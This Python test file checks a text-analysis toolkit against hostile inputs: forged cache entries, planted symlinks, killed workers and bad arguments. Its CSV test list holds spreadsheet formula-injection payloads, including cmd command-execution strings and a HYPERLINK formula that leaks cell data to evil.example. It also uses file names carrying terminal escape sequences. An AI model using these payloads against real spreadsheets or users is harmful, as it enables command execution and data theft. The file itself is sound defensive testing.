"""Hostile runs: what a shared folder, a planted cache or a dying worker can do to an analysis.

Each test plays one attack or accident on tiny tables (no corpus-sized analysis) and checks
that the run neither stops, hangs, runs anything, loses a record nor writes outside its
folders. Tests named ``test_promise_…`` back a promise of the README:

- every file (and article) an article or a problem: ``test_promise_every_article_a_result_or_a_problem_*``
- nothing written outside ``--out`` and the cache: ``test_promise_nothing_written_outside_out_*``
- no code run from data: ``test_promise_no_code_run_from_data_*``
- memory bounded by the size limits: ``test_promise_memory_bounded_*``
"""

from __future__ import annotations

import csv
import errno
import hashlib
import json
import multiprocessing
import os
import signal
import subprocess
import sys
import time
import tracemalloc
from pathlib import Path

import pandas as pd
import pytest

from kit import pipeline
from kit.analysis import Analysis, analyze
from kit.cache import FORMAT, MAX_ENTRY_BYTES, ArticleCache
from kit.cli import FAILED, OK, main, shown
from kit.saving import MANIFEST, MixedRunError, SaveError, save_tables, spreadsheet_safe
from kit.tables import conform, empty

pytestmark = pytest.mark.timeout(120)

ROOT = Path(__file__).resolve().parents[2]
SENTENCE = "Officials in Moscow said on Monday that around 100 experts had left Caracas."


def tiny_analysis(tag: str, n: int = 3) -> Analysis:
    """An Analysis built by hand (no spaCy): ``tag`` marks every row, so runs can be told apart."""
    articles = conform(pd.DataFrame(
        [{"article_id": f"{tag}{i}", "body": f"{tag} body {i}", "source": f"{tag}{i}.txt", "keywords": [tag]} for i in range(n)]
    ), "articles")
    mentions = conform(pd.DataFrame(
        [{"article_id": f"{tag}{i}", "start": 0, "end": len(tag), "text": tag, "actor_id": tag, "kind": "person",
          "sentence": 0, "how": "ner"} for i in range(n)]
    ), "mentions")
    actors = conform(pd.DataFrame([{"actor_id": tag, "name": tag, "kind": "person", "aliases": [tag],
                                    "n_mentions": n, "n_articles": n}]), "actors")
    return Analysis(articles=articles, mentions=mentions, actors=actors, figures=empty("figures"),
                    quotes=empty("quotes"), credits=[f"credit {tag}"])


def assert_same(loaded: Analysis, expected: Analysis) -> None:
    for name, table in expected.tables().items():
        pd.testing.assert_frame_equal(getattr(loaded, name), table, obj=name)
    assert loaded.credits == expected.credits


def tiny_articles(*bodies: str) -> pd.DataFrame:
    return pd.DataFrame({"article_id": [f"a{i}" for i in range(len(bodies))], "body": list(bodies)})


# --- 6. CSV formula injection ----------------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _explorer(frame: pd.DataFrame):
    from kit.widgets.explorer import Explorer

    class Fixed(Explorer):
        def compute_selection(self):
            return frame

    return Fixed()


@pytest.mark.parametrize("cell", FORMULAS)
def test_promise_no_code_run_from_data_csv_formulas_are_written_as_text(cell, tmp_path):
    frame = pd.DataFrame({"text": [cell, "plain words"], "value": [-3, 2], "keywords": [[cell, "x"], ["y"]]})
    path = _explorer(frame).save_csv(tmp_path / "selection.csv")
    with open(path, newline="", encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    assert rows[0]["text"] == "'" + cell
    assert rows[0]["keywords"] == "'" + cell + "; x"
    assert rows[1]["text"] == "plain words" and rows[1]["keywords"] == "y"
    assert [row["value"] for row in rows] == ["-3", "2"]  # numbers stay numbers


def test_spreadsheet_safe_keeps_numbers_missing_values_and_dtypes():
    frame = pd.DataFrame({"text": pd.array(["=1", None, "ok"], dtype="string"), "value": [-1.5, None, 3.0],
                          "=bad column": ["-x", "y", "@z"]})
    safe = spreadsheet_safe(frame)
    assert safe["text"].tolist()[0] == "'=1" and pd.isna(safe["text"][1]) and safe["text"].dtype == "string"
    assert safe["value"].equals(frame["value"])
    assert list(safe.columns) == ["text", "value", "'=bad column"]
    assert safe["'=bad column"].tolist() == ["'-x", "y", "'@z"]
    assert frame["text"][0] == "=1"  # the original is untouched


# --- 7. a save is whole or not at all --------------------------------------------------------------


def test_promise_every_article_a_result_or_a_problem_a_save_cut_short_keeps_the_previous_run(tmp_path, monkeypatch):
    first, second = tiny_analysis("first"), tiny_analysis("second")
    first.save(tmp_path)
    written = []
    real = pd.DataFrame.to_parquet

    def disk_fills(self, *args, **kwargs):
        if len(written) >= 2:
            raise OSError(errno.ENOSPC, "No space left on device")
        written.append(1)
        return real(self, *args, **kwargs)

    monkeypatch.setattr(pd.DataFrame, "to_parquet", disk_fills)
    with pytest.raises(OSError, match="No space left"):
        second.save(tmp_path)
    monkeypatch.undo()
    assert_same(Analysis.load(tmp_path), first)
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]  # no temporary files left


def test_load_refuses_tables_of_two_runs_naming_the_file(tmp_path):
    tiny_analysis("first").save(tmp_path / "one")
    tiny_analysis("second").save(tmp_path / "two")
    (tmp_path / "one" / "mentions.parquet").write_bytes((tmp_path / "two" / "mentions.parquet").read_bytes())
    with pytest.raises(MixedRunError, match=r"mentions\.parquet"):
        Analysis.load(tmp_path / "one")


@pytest.mark.parametrize("with_manifest", [True, False])
def test_load_names_a_truncated_table(tmp_path, with_manifest):
    tiny_analysis("first").save(tmp_path)
    if not with_manifest:  # a folder saved by an older kit
        (tmp_path / MANIFEST).unlink()
    table = tmp_path / "articles.parquet"
    table.write_bytes(table.read_bytes()[:-40])
    with pytest.raises(ValueError, match=r"articles\.parquet"):
        Analysis.load(tmp_path)


def test_a_folder_saved_without_a_manifest_still_loads(tmp_path):
    expected = tiny_analysis("old")
    expected.save(tmp_path)
    (tmp_path / MANIFEST).unlink()
    assert_same(Analysis.load(tmp_path), expected)


def test_a_table_of_an_earlier_run_is_removed_when_the_new_run_lacks_it(tmp_path):
    save_tables(tmp_path, {"articles": pd.DataFrame({"a": [1]}), "locations": pd.DataFrame({"b": [2]})})
    save_tables(tmp_path, {"articles": pd.DataFrame({"a": [3]})})
    assert sorted(p.name for p in tmp_path.iterdir()) == ["articles.parquet", MANIFEST]


def _save_repeatedly(folder: str, tag: str, times: int) -> None:
    analysis = tiny_analysis(tag)
    try:
        for _ in range(times):
            analysis.save(folder)
    except BaseException:
        os._exit(1)
    os._exit(0)


def test_two_processes_saving_into_one_folder_leave_one_whole_run(tmp_path):
    context = multiprocessing.get_context("fork")
    workers = [context.Process(target=_save_repeatedly, args=(str(tmp_path), tag, 15)) for tag in ("first", "second")]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(60)
    assert [worker.exitcode for worker in workers] == [0, 0]
    loaded = Analysis.load(tmp_path)
    tag = loaded.credits[0].split()[-1]
    assert_same(loaded, tiny_analysis(tag))


# --- 8. a hostile or shared cache ------------------------------------------------------------------

KEY = "ab" * 32


def _planted(cache: ArticleCache, key: str = KEY) -> Path:
    path = cache.path(key)
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def _forged(key: str, payload: bytes) -> bytes:
    """An entry with a valid checksum around any payload (anyone who can write the cache can make one)."""
    return f"{FORMAT} {hashlib.sha256(payload).hexdigest()}\n".encode() + payload


@pytest.mark.timeout(20)
def test_a_fifo_in_the_cache_is_a_miss_not_a_hang(tmp_path):
    cache = ArticleCache(tmp_path)
    os.mkfifo(_planted(cache))
    assert cache.get(KEY) is None
    assert cache.stats["damaged"] == 1


@pytest.mark.parametrize("target", ["/dev/zero", "/dev/null", "outside"])
@pytest.mark.timeout(20)
def test_a_symlink_in_the_cache_is_a_miss(tmp_path, target):
    if target == "outside":
        target = tmp_path / "outside.json"
        ArticleCache(tmp_path / "other").put(KEY, {"mentions": []})
        target.write_bytes(ArticleCache(tmp_path / "other").path(KEY).read_bytes())
    cache = ArticleCache(tmp_path / "cache")
    _planted(cache).symlink_to(target)
    assert cache.get(KEY) is None


def test_promise_memory_bounded_a_huge_cache_entry_is_not_read(tmp_path):
    cache = ArticleCache(tmp_path)
    with open(_planted(cache), "wb") as stream:  # sparse: no disk used
        stream.truncate(MAX_ENTRY_BYTES * 4)
    tracemalloc.start()
    try:
        assert cache.get(KEY) is None
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < MAX_ENTRY_BYTES // 4


FORGED_ROWS = [
    b'{"key":"KEY","rows":{"mentions":' + b"[" * 100_000 + b"]" * 100_000 + b"}}",
    b'{"key":"KEY","rows":{"mentions":5}}',
    b'{"key":"KEY","rows":{"mentions":[[1,2]]}}',
    b'{"key":"KEY","rows":{"mentions":[{"start":{"a":1}}]}}',
    b'{"key":"KEY","rows":{"mentions":[{"start":"0","end":6,"text":"x"}]}}',
    b'{"key":"KEY","rows":{"mentions":[{"start":1e400}]}}',
    b'{"key":"KEY","rows":{"figures":[{"start":0,"end":99999999999999999999999}]}}',
    b'{"key":"KEY","rows":{"quotes":[{"text":["a",["b"]]}]}}',
    b'{"key":"KEY","rows":{"errors":[1]}}',
    b'{"key":"KEY","rows":[]}',
]


@pytest.mark.parametrize("payload", FORGED_ROWS, ids=range(len(FORGED_ROWS)))
def test_promise_no_code_run_from_data_a_forged_cache_entry_is_a_miss(tmp_path, payload):
    cache = ArticleCache(tmp_path)
    _planted(cache).write_bytes(_forged(KEY, payload.replace(b"KEY", KEY.encode())))
    assert cache.get(KEY) is None
    assert cache.stats["damaged"] == 1


def test_a_forged_entry_is_recomputed_by_analyze(tmp_path):
    from kit.cache import analysis_identity, body_key

    articles = tiny_articles(SENTENCE)
    fresh = analyze(articles, cache=False, progress=False)
    cache = ArticleCache(tmp_path)
    key = body_key(SENTENCE, analysis_identity(None))
    _planted(cache, key).write_bytes(_forged(key, json.dumps({"key": key, "rows": {"mentions": 5}}).encode()))
    result = analyze(articles, cache=cache, progress=False)
    for name in ("mentions", "figures", "quotes", "actors"):
        pd.testing.assert_frame_equal(getattr(result, name), getattr(fresh, name), obj=name)
    assert cache.stats["damaged"] == 1 and cache.stats["writes"] == 1


@pytest.mark.timeout(20)
def test_forged_corpus_tables_in_the_cache_are_a_miss(tmp_path):
    cache = ArticleCache(tmp_path)
    folder = cache._tables_folder(KEY)
    folder.mkdir(parents=True)
    (folder / "tables.json").write_text('["mentions"]')
    os.mkfifo(folder / "mentions.parquet")
    assert cache.get_tables(KEY) is None
    folder.mkdir(parents=True)
    (folder / "tables.json").write_text('["mentions"]')
    pd.DataFrame({"start": ["not a number"]}).to_parquet(folder / "mentions.parquet")
    assert cache.get_tables(KEY) is None


def test_promise_nothing_written_outside_out_nor_the_cache_through_a_symlinked_cache_folder(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    cache = ArticleCache(tmp_path / "cache")
    (tmp_path / "cache" / FORMAT).mkdir(parents=True)
    (tmp_path / "cache" / FORMAT / KEY[:2]).symlink_to(outside)
    with pytest.warns(UserWarning, match="continuing without it"):
        cache.put(KEY, {"mentions": []})
    assert list(outside.iterdir()) == []


# --- 9. symlinks planted in --out ------------------------------------------------------------------

PLANTED = ["credits.json", "articles.parquet", "problems.parquet", "mentions.parquet", MANIFEST,
           ".articles.parquet.tmp", ".credits.json.tmp"]


def _plant_symlinks(out: Path, outside: Path) -> dict[Path, bytes]:
    out.mkdir(parents=True, exist_ok=True)
    outside.mkdir(parents=True, exist_ok=True)
    precious = {}
    for name in PLANTED:
        target = outside / f"precious-{name.strip('.')}"
        target.write_bytes(b"precious " + name.encode())
        precious[target] = target.read_bytes()
        (out / name).symlink_to(target)
    return precious


def _assert_untouched(outside: Path, precious: dict[Path, bytes]) -> None:
    assert sorted(outside.iterdir()) == sorted(precious)
    for path, data in precious.items():
        assert path.read_bytes() == data, path


def test_promise_nothing_written_outside_out_analysis_save_replaces_planted_symlinks(tmp_path):
    out, outside = tmp_path / "out", tmp_path / "outside"
    precious = _plant_symlinks(out, outside)
    expected = tiny_analysis("run")
    expected.save(out)
    _assert_untouched(outside, precious)
    assert_same(Analysis.load(out), expected)
    for name in ("credits.json", "articles.parquet", MANIFEST):
        assert not (out / name).is_symlink()


def test_load_refuses_a_table_swapped_for_a_symlink(tmp_path):
    tiny_analysis("run").save(tmp_path / "out")
    elsewhere = tmp_path / "elsewhere.parquet"
    elsewhere.write_bytes((tmp_path / "out" / "articles.parquet").read_bytes())
    (tmp_path / "out" / "articles.parquet").unlink()
    (tmp_path / "out" / "articles.parquet").symlink_to(elsewhere)
    with pytest.raises(MixedRunError, match=r"articles\.parquet"):
        Analysis.load(tmp_path / "out")


@pytest.fixture
def corpus(tmp_path) -> Path:
    folder = tmp_path / "corpus"
    folder.mkdir()
    (folder / "story.txt").write_text(f"Experts leave\n\n{SENTENCE}\n", encoding="utf-8")
    return folder


@pytest.mark.parametrize("command", ["read", "analyze"])
def test_promise_nothing_written_outside_out_cli_replaces_planted_symlinks(corpus, tmp_path, command):
    out, outside = tmp_path / "out", tmp_path / "outside"
    precious = _plant_symlinks(out, outside)
    extra = ["--no-cache"] if command == "analyze" else []
    assert main([command, str(corpus), "--out", str(out), "--quiet", *extra]) == OK
    _assert_untouched(outside, precious)
    assert len(pd.read_parquet(out / "articles.parquet")) == 1


def test_make_folder_refuses_a_planted_symlinked_subfolder(tmp_path):
    from kit.saving import make_folder

    (tmp_path / "outside").mkdir()
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "figures").symlink_to(tmp_path / "outside")
    with pytest.raises(SaveError, match="symlink"):
        make_folder(tmp_path / "out" / "figures" / "png", inside=tmp_path / "out")
    assert list((tmp_path / "outside").iterdir()) == []


# --- 10. worker processes ------------------------------------------------------------------------

PAIRS = [(f"k{i:02d}", f"Officials in Moscow said on day {i} that {i} experts had left.") for i in range(16)]


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as stream:
            return stream.read().rpartition(")")[2].split()[0] != "Z"
    except FileNotFoundError:
        return False


linux_fork = pytest.mark.skipif(
    not sys.platform.startswith("linux") or multiprocessing.get_start_method() != "fork",
    reason="worker tests use /proc and fork",
)


@linux_fork
def test_promise_every_article_a_result_or_a_problem_a_killed_worker_costs_no_article():
    rows = pipeline.iter_rows(PAIRS, model=None, n_process=2, batch_size=1)
    results = [next(rows)]
    workers = multiprocessing.active_children()
    assert workers
    os.kill(workers[0].pid, signal.SIGKILL)
    results.extend(rows)
    assert sorted(key for key, _ in results) == sorted(key for key, _ in PAIRS)
    assert not [key for key, found in results if found.get("errors")]
    assert all(found["mentions"] for _, found in results)


_real_analyze_texts = pipeline.analyze_texts


def _analyze_texts_killing_its_worker(pairs, model=None, batch_size=None):
    if any("KILL-WORKER" in body for _, body in pairs):
        os.kill(os.getpid(), signal.SIGKILL)
    return _real_analyze_texts(pairs, model, batch_size)


@linux_fork
def test_promise_every_article_a_result_or_a_problem_an_article_killing_its_worker(monkeypatch):
    monkeypatch.setattr(pipeline, "analyze_texts", _analyze_texts_killing_its_worker)
    bodies = [body for _, body in PAIRS[:8]]
    bodies[3] = "KILL-WORKER " + bodies[3]
    result = analyze(tiny_articles(*bodies), cache=False, progress=False, n_process=2, batch_size=2)
    assert set(result.mentions.article_id) == {f"a{i}" for i in range(8)} - {"a3"}
    assert len(result.problems) == 1
    assert "article a3" in result.problems.reason[0] and "died" in result.problems.reason[0]


WORKERS_THEN_WAIT = """
import multiprocessing, sys, time
from kit.pipeline import iter_rows
pairs = [(f"k{i}", "Officials in Moscow said so.") for i in range(12)]
rows = iter_rows(pairs, model=None, n_process=2, batch_size=1)
next(rows)
print(" ".join(str(p.pid) for p in multiprocessing.active_children()), flush=True)
time.sleep(600)
"""


@linux_fork
def test_workers_end_when_the_analysis_is_killed(tmp_path):
    script = subprocess.Popen([sys.executable, "-c", WORKERS_THEN_WAIT], stdout=subprocess.PIPE, text=True,
                              env={**os.environ, "PYTHONPATH": str(ROOT)}, cwd=tmp_path)
    workers = []
    try:
        workers = [int(pid) for pid in script.stdout.readline().split()]
        assert workers
        script.kill()
        script.wait(10)
        deadline = time.monotonic() + 20
        while any(_alive(pid) for pid in workers) and time.monotonic() < deadline:
            time.sleep(0.2)
        assert not [pid for pid in workers if _alive(pid)]
    finally:
        script.kill()
        for pid in workers:  # only the workers this test started
            if _alive(pid):
                os.kill(pid, signal.SIGKILL)


# --- 13. names printed by the CLI --------------------------------------------------------------------


@pytest.mark.parametrize("name, printed", [
    ("plain.txt", "plain.txt"),
    ("a\nforged line.txt", "a\\nforged line.txt"),
    ("t\x1b]0;pwned\x07\x1b[2J.txt", "t\\x1b]0;pwned\\x07\\x1b[2J.txt"),
    ("right\u202etxt.exe", "right\\u202etxt.exe"),
    ("caf\udce9.txt", "caf\\xe9.txt"),
    ("Zürich – Ελλάδα.txt", "Zürich – Ελλάδα.txt"),
])
def test_shown_escapes_control_characters_only(name, printed):
    assert shown(name) == printed


def test_the_cli_prints_hostile_file_names_escaped(tmp_path, capsys):
    folder = tmp_path / "corpus"
    folder.mkdir()
    (folder / "story.txt").write_text(f"Experts leave\n\n{SENTENCE}\n", encoding="utf-8")
    (folder / "evil\x1b]0;pwned\x07\x1b[2J\nforged: all good.txt").write_bytes(b"")
    assert main(["read", str(folder), "--out", str(tmp_path / "out")]) == OK
    said = capsys.readouterr()
    text = said.out + said.err
    assert "\x1b" not in text and "\x07" not in text
    assert not [line for line in text.splitlines() if line.startswith("forged")]
    # the reader's source column already shows the name escaped (\x0a for the newline)
    assert any(f"evil\\x1b]0;pwned\\x07\\x1b[2J{newline}forged: all good.txt" in text for newline in ("\\n", "\\x0a"))


# --- 15. bad arguments ---------------------------------------------------------------------------


@pytest.mark.parametrize("arguments, error, message", [
    ({"batch_size": -1}, ValueError, "batch_size=-1"),
    ({"batch_size": 0}, ValueError, "batch_size=0"),
    ({"batch_size": "64"}, TypeError, "batch_size='64'"),
    ({"batch_size": 2.5}, TypeError, "batch_size=2.5"),
    ({"n_process": "2"}, TypeError, "n_process='2'"),
    ({"n_process": 1.0}, TypeError, "n_process=1.0"),
    ({"n_process": -2}, ValueError, "n_process=-2"),
    ({"max_chars": -1}, ValueError, "max_chars=-1"),
    ({"max_chars": 0}, ValueError, "max_chars=0"),
    ({"max_chars": "1000"}, TypeError, "max_chars='1000'"),
    ({"model": 5}, TypeError, "model="),
    ({"cache": ""}, ValueError, "cache=''"),
])
def test_bad_arguments_are_refused_naming_the_argument(arguments, error, message):
    with pytest.raises(error, match=message.replace("(", r"\(").replace(".", r"\.")):
        analyze(tiny_articles(SENTENCE), progress=False, **{"cache": False, **arguments})


def test_more_workers_than_cpus_are_capped_with_a_warning():
    cpus = os.cpu_count() or 1
    with pytest.warns(UserWarning, match=f"{cpus} CPU"):
        assert pipeline.worker_count(cpus + 10) == cpus
    assert pipeline.worker_count(-1) == cpus


@pytest.mark.parametrize("out", ["", "   "])
def test_an_empty_out_is_refused_and_nothing_is_written(corpus, tmp_path, monkeypatch, capsys, out):
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    assert main(["read", str(corpus), "--out", out]) == FAILED
    assert "--out" in capsys.readouterr().err
    assert list(work.iterdir()) == []


@pytest.mark.parametrize("body", [None, float("nan"), 42, ["a", "list"]])
def test_promise_every_article_a_result_or_a_problem_a_body_that_is_not_text(body):
    articles = pd.DataFrame({"article_id": ["ok", "odd"], "body": ["Russia said 100 experts left.", body]})
    result = analyze(articles, cache=False, progress=False)
    assert result.problems.reason.str.contains("article odd has no text body").sum() == 1
    assert set(result.mentions.article_id) == {"ok"}
